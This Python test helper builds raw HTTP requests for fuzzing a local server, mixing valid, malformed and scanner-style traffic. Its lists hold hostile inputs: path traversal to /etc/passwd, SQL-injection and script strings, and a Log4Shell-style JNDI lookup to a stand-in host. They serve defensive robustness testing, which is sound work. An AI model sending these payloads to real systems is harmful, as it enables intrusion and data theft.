"""Requests as bytes: well-formed ones, malformed ones, those of scanners, and those of clients that disconnect."""

import random
import re
import socket
import string
import struct

from .conftest import TIMEOUT_S

# Paths that scanners of the internet request.
_PATHS = (
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/cgi-bin/luci",
    "/../../etc/passwd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/static/../app/config.py",
    "/api/v1/../../admin",
    "/api/v1/missions/%00/%ff",
    "/missions/<script>/x",
    "//evil.example/x",
    "/?q=%27%20OR%201=1",
    "/search?q=%00%f0%9f",
    "/metrics",
    "/metrics?name[]=x",
    "*",
    "http://evil.example/",
)
_METHODS = ("GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "get", "G@T")
_HEADERS = (
    "Accept: */*;q=x",
    "Accept-Encoding: gzip, br;q=9",
    "Authorization: Basic !!!!",
    "Content-Length: 3",
    "Content-Type: application/x-www-form-urlencoded",
    "Cookie: session=../../etc/passwd",
    'If-None-Match: W/"x", *, "',
    "If-Modified-Since: yesterday",
    "Range: bytes=0-0,5-1,-",
    "Transfer-Encoding: gzip",
    "User-Agent: ${jndi:ldap://evil.example/a}",
    "X-Forwarded-For: 127.0.0.1, evil, ::",
    "X-Forwarded-Host: evil.example",
    "X-HTTP-Method-Override: DELETE",
    "X-Request-ID: ' OR 1=1",
    "Upgrade: h2c",
)


def head(method: str, target: str, *headers: str) -> bytes:
    """The head of a request, after which the server closes the connection."""
    lines = [f"{method} {target} HTTP/1.1", "Host: 127.0.0.1", "Connection: close", *headers, "", ""]
    return "\r\n".join(lines).encode("latin-1")


def scan(source: random.Random) -> bytes:
    """A request of a scanner: often valid, always unwanted."""
    word = "".join(source.choices(string.ascii_uppercase, k=source.randint(1, 20)))
    noise = "".join(source.choices(string.ascii_letters + string.digits + "/._-%?&=", k=source.randint(1, 200)))
    target = source.choice([*_PATHS, f"/{noise}", f"/api/v1/{noise}", f"/static/{noise}", f"/missions/{noise}"])
    return head(source.choice([*_METHODS, word]), target, *source.sample(_HEADERS, source.randint(0, 4)))


def status_of(port: int, request: bytes) -> int:
    """Send the bytes on a connection of their own and return the status of the response; 0 without one."""
    with socket.create_connection(("127.0.0.1", port), timeout=TIMEOUT_S) as connection:
        connection.sendall(request)
        response = bytearray()
        try:
            while part := connection.recv(65_536):
                response += part
        except ConnectionResetError:
            pass
    match = re.match(rb"HTTP/1\.[01] (\d{3}) ", response)
    return int(match[1]) if match else 0


def abort(port: int, request: bytes) -> None:
    """Send the bytes and reset the connection without waiting for the response."""
    with socket.create_connection(("127.0.0.1", port), timeout=TIMEOUT_S) as connection:
        connection.sendall(request)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
